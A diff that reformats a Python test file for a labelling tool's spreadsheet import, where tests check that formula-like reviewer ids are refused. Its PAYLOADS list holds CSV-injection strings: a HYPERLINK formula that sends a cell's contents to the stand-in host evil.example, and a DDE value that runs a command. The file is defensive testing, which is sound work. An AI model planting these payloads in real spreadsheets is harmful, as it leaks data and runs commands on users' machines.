@@ -15,8 +15,14 @@ from calibration.labelling.items import dataset_conversations
 from calibration.labelling.sheet import sheet_frame
 from rubric.schema import load_rubric
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _poison(labelling_dir) -> str:
@@ -67,8 +73,18 @@ def test_a_formula_like_reviewer_id_is_refused_at_import(labelling_dir, tmp_path
     for who in ["=1+1", "'=1+1", "@me", "-x", "+x"]:  # '=1+1: the quote a spreadsheet keeps comes off, then refused
         frame["judge_id"] = who
         frame.to_csv(tmp_path / "s.csv", index=False)
-        assert main(["import", "source=sheet", f"sheet={tmp_path / 's.csv'}", f"data={labelling_dir}",
-                     f"out={tmp_path / 'o'}"]) == 2
+        assert (
+            main(
+                [
+                    "import",
+                    "source=sheet",
+                    f"sheet={tmp_path / 's.csv'}",
+                    f"data={labelling_dir}",
+                    f"out={tmp_path / 'o'}",
+                ]
+            )
+            == 2
+        )
         err = capsys.readouterr().err
         assert "sheet row 2: the reviewer id" in err and "starts like a spreadsheet formula" in err, err
         assert not (tmp_path / "o").exists()
@@ -81,8 +97,12 @@ def test_a_blank_turn_in_a_dataset_labelled_per_turn_is_refused(labelling_dir, t
     frame["answer"] = "3"
     frame.loc[6, "turn"] = ""
     frame.to_csv(tmp_path / "s.csv", index=False)
-    assert main(["import", "source=sheet", f"sheet={tmp_path / 's.csv'}", f"data={labelling_dir}",
-                 f"out={tmp_path / 'o'}"]) == 2
+    assert (
+        main(
+            ["import", "source=sheet", f"sheet={tmp_path / 's.csv'}", f"data={labelling_dir}", f"out={tmp_path / 'o'}"]
+        )
+        == 2
+    )
     err = capsys.readouterr().err
     assert err.count("\n") == 1 and "sheet row 8 has an answer but a blank turn" in err, err
     assert not (tmp_path / "o").exists()
